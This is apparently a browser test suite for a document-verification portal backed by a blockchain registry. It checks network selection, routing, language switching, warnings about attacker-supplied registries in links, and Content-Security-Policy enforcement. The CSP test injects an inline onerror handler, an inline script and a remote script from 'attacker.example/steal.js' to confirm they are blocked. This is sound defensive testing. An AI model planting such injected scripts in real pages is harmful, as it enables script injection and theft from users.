// The portal's shell in Chromium: the networks its site lists (networks.json, as `npm run portal` serves the local
// node's deployment), the addresses it fills in and forgets, navigation by hash routes, and the language switch.
import { mkdtemp, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import path from "node:path";

import { expect } from "chai";

import { EvidenceClient } from "../../src/evidence/client.js";
import { EvidenceRegistry__factory } from "../../typechain-types/index.js";
import { CONTENT_SECURITY_POLICY } from "../../web/vite.config.js";
import { usePortal } from "./harness.js";

describe("the browser portal's shell, in Chromium on a hardhat node", function () {
  this.timeout(180_000);
  const portal = usePortal();
  let registry: string;
  let documentPath: string;
  let receiptPath: string;

  before(async function () {
    const deployed = await new EvidenceRegistry__factory(portal.signer).deploy();
    await deployed.waitForDeployment();
    registry = await deployed.getAddress();
    portal.networks.push({
      name: "Local node",
      chainId: 31337,
      rpc: portal.node.url,
      contracts: { EvidenceRegistry: registry },
    });
    const dir = await mkdtemp(path.join(tmpdir(), "portal-shell-"));
    documentPath = path.join(dir, "contract.txt"); // the README walkthrough's document
    await writeFile(documentPath, "Purchase contract PC-2026-0118\n");
    const { receipt } = await new EvidenceClient(registry, portal.signer).anchorFile(documentPath, {
      algorithm: "sm3",
    });
    receiptPath = `${documentPath}.receipt.json`;
    await writeFile(receiptPath, JSON.stringify(receipt));
  });

  it("starts on the site's local node, fills in its registry and calls it a known deployment", async function () {
    const { context, page } = await portal.open({ width: 1000 });
    expect(await page.inputValue("#rpc")).to.equal(portal.node.url);
    expect(await page.inputValue("#registry")).to.equal(registry);
    expect(await page.textContent("#network option:checked")).to.equal("Local node (31337)");
    expect(await page.getAttribute("#networkPanel", "open")).to.equal(null); // chosen for the user: folded away
    expect(await page.textContent("#networkStatus")).to.equal("Local node (31337)");
    await page.setInputFiles("#document", documentPath);
    await page.setInputFiles("#receipt", receiptPath);
    await page.click("#verify");
    await page.waitForSelector("#result[data-status]:not([hidden])");
    expect(await page.getAttribute("#result", "data-status")).to.equal("verified");
    const fields = (await page.textContent("#fields")) ?? "";
    expect(fields).to.include(`chain 31337, ${registry}`);
    expect(await page.getAttribute("#result", "data-trust")).to.equal("known");
    expect(await page.textContent("#trust")).to.equal(
      `EvidenceRegistry ${registry}: the known deployment on this chain.`,
    );
    expect(await page.isHidden("#linkNotice")).to.equal(true);
    expect(await page.textContent("#networkStatus")).to.equal("Connected to chain 31337 (Hardhat)");
    await portal.screenshot(page, "shell-local-node"); // the README's picture (docs/portal-verify.png) is this one
    await context.close();
  });

  it("forgets the filled-in addresses when the user types another RPC URL, and keeps typed ones", async function () {
    const { context, page } = await portal.open();
    await page.click("#networkPanel summary"); // closed: the site chose the network
    await page.fill("#copyright", "0x000000000000000000000000000000000000c0De");
    await page.fill("#rpc", "http://127.0.0.1:1");
    await page.dispatchEvent("#rpc", "change");
    expect(await page.inputValue("#network")).to.equal("");
    expect(await page.inputValue("#registry")).to.equal("");
    expect(await page.inputValue("#copyright")).to.equal("0x000000000000000000000000000000000000c0De");
    await context.close();
  });

  it("opens the verify page by default and by its route, says so for a page it has not, and switches language", async function () {
    const { context, page } = await portal.open({ path: "#/verify" });
    expect(await page.getAttribute('nav a[data-route="verify"]', "aria-current")).to.equal("page");
    expect(await page.textContent("#page h2")).to.equal("Verify a document");
    await page.evaluate('location.hash = "#/nowhere"');
    await page.waitForFunction('document.querySelector("#page h2")?.textContent === "No such page: nowhere"');
    await page.evaluate('location.hash = "#/verify"');
    await page.waitForSelector("#form");
    await page.click("#lang");
    expect(await page.textContent("#page h2")).to.equal("验证文件");
    expect(await page.textContent('nav a[data-route="verify"]')).to.equal("验证");
    expect(await page.getAttribute("html", "lang")).to.equal("zh-CN");
    expect(await page.title()).to.equal("ChainProof 链证 · 验证文件");
    await context.close();
  });

  it("says so when a link chose the network and a registry no list records, and does not call its VERIFIED known", async function () {
    // Whoever made the link (a certificate's QR code, an e-mail) chose both: an attacker's registry holds its own record.
    const own = await new EvidenceRegistry__factory(portal.signer).deploy();
    await own.waitForDeployment();
    const attackerRegistry = await own.getAddress();
    const dir = await mkdtemp(path.join(tmpdir(), "portal-link-"));
    const forged = path.join(dir, "deed.txt");
    await writeFile(forged, "a deed only the attacker's registry knows\n");
    const { receipt } = await new EvidenceClient(attackerRegistry, portal.signer).anchorFile(forged);
    const query = new URLSearchParams({
      receipt: JSON.stringify(receipt),
      rpc: portal.node.url,
      registry: attackerRegistry,
    });
    const { context, page } = await portal.open({ path: `?${query}` });
    const host = new URL(portal.node.url).host;
    expect(await page.isVisible("#linkNotice")).to.equal(true);
    expect(await page.textContent("#linkNotice")).to.equal(
      `The network (RPC ${host}) came from the link that opened this page: a node you do not trust can answer anything. For a verdict you rely on, use your own RPC URL.`,
    );
    await page.setInputFiles("#document", forged);
    await page.click("#verify");
    await page.waitForSelector("#result[data-status]:not([hidden])");
    expect(await page.getAttribute("#result", "data-status")).to.equal("verified");
    expect(await page.getAttribute("#result", "data-trust")).to.equal("link");
    expect(await page.textContent("#trust")).to.equal(
      `EvidenceRegistry ${attackerRegistry} came from the link that opened this page and is NOT a known deployment: what it says is only as good as that address. Check it against the address its operator publishes. The network (RPC ${host}) came from the link that opened this page: a node you do not trust can answer anything. For a verdict you rely on, use your own RPC URL.`,
    );
    expect(await page.textContent("#summary")).to.include("(NOT a known deployment)");
    await portal.screenshot(page, "shell-link-registry");
    // Typing one's own RPC URL ends the link's say over the network.
    expect(await page.getAttribute("#networkPanel", "open")).to.equal(""); // left open: the link's choices are in view
    await page.fill("#rpc", portal.node.url);
    await page.dispatchEvent("#rpc", "change");
    expect(await page.isHidden("#linkNotice")).to.equal(true);
    await context.close();
  });

  it("runs no script smuggled into the page as markup (its Content-Security-Policy)", async function () {
    const { context, page } = await portal.open();
    expect(await page.getAttribute('meta[http-equiv="Content-Security-Policy"]', "content")).to.equal(
      CONTENT_SECURITY_POLICY,
    );
    // What a receipt's fileName or a chain's string would be if the page ever put it in as markup: an inline handler,
    // an inline script, and a script from another host.
    // (A string: the test's TypeScript has no DOM library.)
    await page.evaluate(`
      document.body.insertAdjacentHTML("beforeend", '<img src="data:," onerror="window.smuggled = 1">');
      const inline = document.createElement("script");
      inline.textContent = "window.smuggled = 2";
      document.body.append(inline);
      const remote = document.createElement("script");
      remote.src = "https://attacker.example/steal.js";
      document.body.append(remote);
    `);
    for (let tries = 0; portal.policyViolations.length < 3 && tries < 300; tries++) await page.waitForTimeout(100);
    const refused = portal.policyViolations.splice(0);
    expect(refused).to.have.lengthOf(3);
    // Chromium's wording changes between versions ("Refused to execute…", "Executing … violates…"): the gist is kept.
    expect(refused.join("\n"))
      .to.match(/inline event handler/)
      .and.match(/inline script/)
      .and.match(/script 'https:\/\/attacker\.example\/steal\.js'/);
    expect(await page.evaluate("typeof window.smuggled")).to.equal("undefined");
    expect(portal.requests.filter((url) => url.includes("attacker.example"))).to.deep.equal([]);
    await context.close();
  });

  it("answers a malformed path with 400 and keeps serving, and forbids framing the page", async function () {
    const bad = await fetch(new URL("/%", portal.url));
    expect(bad.status).to.equal(400);
    const page = await fetch(portal.url);
    expect(page.status).to.equal(200);
    // What the page's meta policy cannot say: no other site may frame it.
    expect(page.headers.get("content-security-policy")).to.equal("frame-ancestors 'none'");
    expect(page.headers.get("x-frame-options")).to.equal("DENY");
  });

  it("asked nothing of any host but the portal's server and the RPC URL", function () {
    portal.rpcUrls.push("http://127.0.0.1:1");
    portal.assertOnlyAllowedHosts();
  });
});
